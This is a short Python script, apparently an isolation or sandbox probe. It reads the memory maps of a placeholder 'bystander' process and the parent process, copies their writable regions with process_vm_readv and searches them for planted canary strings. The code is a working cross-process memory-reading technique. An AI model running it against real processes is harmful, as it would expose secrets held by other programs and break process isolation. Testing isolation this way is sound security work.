"""The same by process_vm_readv, which needs no file.

gains: read
"""

# %%
import ctypes, os, re

libc = ctypes.CDLL(None)


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


for pid in {BYSTANDER, os.getppid()}:
    try:
        lines = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError:
        continue
    for line in lines:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" in line and end - start < 512 << 20:
            buffer = ctypes.create_string_buffer(end - start)
            here, there = Part(ctypes.addressof(buffer), end - start), Part(start, end - start)
            libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            print(set(re.findall(rb"CANARY-[A-Z]+-[0-9a-f]+", buffer.raw)))
